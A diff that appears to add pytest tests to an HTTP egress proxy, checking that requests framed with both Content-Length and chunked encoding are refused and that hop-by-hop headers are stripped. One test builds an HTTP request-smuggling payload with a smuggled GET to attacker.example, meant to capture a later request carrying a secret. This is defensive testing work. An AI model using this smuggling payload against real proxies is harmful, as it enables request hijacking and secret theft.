@@ -130,3 +130,78 @@ def test_a_request_head_is_held_to_16_kib(upstream: int) -> None:
         assert reached == [], "a head past the cap was relayed"
     finally:
         raw.close()
+
+
+@pytest.fixture
+def recorder() -> Iterator[tuple[int, list[bytes]]]:
+    """An upstream that answers each connection's first request once its body (chunked) has come,
+    and keeps the bytes that reached it."""
+    raw = socket.socket()
+    raw.bind(("127.0.0.1", 0))
+    raw.listen()
+    reached: list[bytes] = []
+
+    def accept() -> None:
+        while True:
+            try:
+                conn, _ = raw.accept()
+            except OSError:
+                return
+            with conn:
+                data = b""
+                while not data.endswith(b"0\r\n\r\n") and (chunk := conn.recv(65536)):
+                    data += chunk
+                reached.append(data)
+                conn.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
+
+    threading.Thread(target=accept, daemon=True).start()
+    yield raw.getsockname()[1], reached
+    raw.close()
+
+
+def test_a_request_framed_two_ways_is_refused_not_passed_on(recorder: tuple[int, list[bytes]]) -> None:
+    # h11 reads chunks where a length is given too, and passed both on: a host (or a front before a
+    # bound host) that went by the length took the rest of the body for a request of the isolate's
+    # own, with any Host, and the proxy's next request, a filled secret in it, for that one's body.
+    port, reached = recorder
+    gate = _gate(port)
+    client, stop = _served(gate)
+    try:
+        smuggled = b"GET /collect HTTP/1.1\r\nHost: attacker.example\r\nContent-Length: 400\r\n\r\n"
+        body = b"%x\r\n%s\r\n0\r\n\r\n" % (len(smuggled), smuggled)
+        client.sendall(
+            f"POST http://127.0.0.1:{port}/ HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\n"
+            "Transfer-Encoding: chunked\r\n\r\n".encode() + body
+        )
+        assert _answers(client) == ["400"]
+        (record,) = gate.take_records()[0]
+        assert not record.allowed and record.reason.startswith("a request framed two ways"), record
+    finally:
+        client.close()
+        stop()
+    assert b"".join(reached) == b""  # a connection may have been opened: nothing was sent on it
+
+
+def test_a_request_is_passed_on_framed_as_read_without_its_hop_by_hop_headers(
+    recorder: tuple[int, list[bytes]],
+) -> None:
+    port, reached = recorder
+    client, stop = _served(_gate(port))
+    try:
+        client.sendall(
+            f"POST http://127.0.0.1:{port}/p HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n"
+            "Connection: keep-alive, X-Hop\r\nX-Hop: 1\r\nKeep-Alive: timeout=5\r\nUpgrade: h2c\r\n"
+            "Proxy-Authorization: Basic eDp5\r\nTE: trailers\r\nX-End: 2\r\n\r\n3\r\nabc\r\n0\r\n\r\n".encode()
+        )
+        answer = b""
+        while not answer.endswith(b"ok") and (chunk := client.recv(65536)):  # kept alive: not closed
+            answer += chunk
+        assert answer.startswith(b"HTTP/1.1 200 "), answer
+    finally:
+        client.close()
+        stop()
+    (sent,) = reached
+    head, _, body = sent.partition(b"\r\n\r\n")
+    names = [line.split(b":")[0].lower() for line in head.split(b"\r\n")[1:]]
+    assert sorted(names) == [b"host", b"transfer-encoding", b"x-end"], head
+    assert body == b"3\r\nabc\r\n0\r\n\r\n"
